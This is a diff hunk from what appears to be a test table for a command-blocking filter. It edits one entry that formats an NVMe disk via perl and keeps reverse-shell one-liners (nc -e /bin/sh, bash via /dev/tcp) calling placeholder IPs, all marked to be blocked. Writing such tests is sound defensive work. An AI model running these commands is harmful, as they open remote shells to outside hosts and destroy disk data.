@@ -173,7 +173,7 @@ SHAPES: list[tuple[str, str, str]] = [
      "jrunscript -e 'java.lang.Runtime.getRuntime().exec(\"nc -e /bin/sh 192.0.2.70 4444\")'"),
     ("interpreter", "block",
      "python3 -c \"import os; os.popen('bash -i >& /dev/tcp/192.0.2.71/9000 0>&1')\""),
-    ("interpreter", "block", "perl -e 'qx(mkfs.ext4 /dev/sdb)'"),
+    ("interpreter", "block", "perl -e 'qx(mkfs.ext4 /dev/nvme0n1)'"),
 ]
 
 # Lines people type every day: all should be allowed.
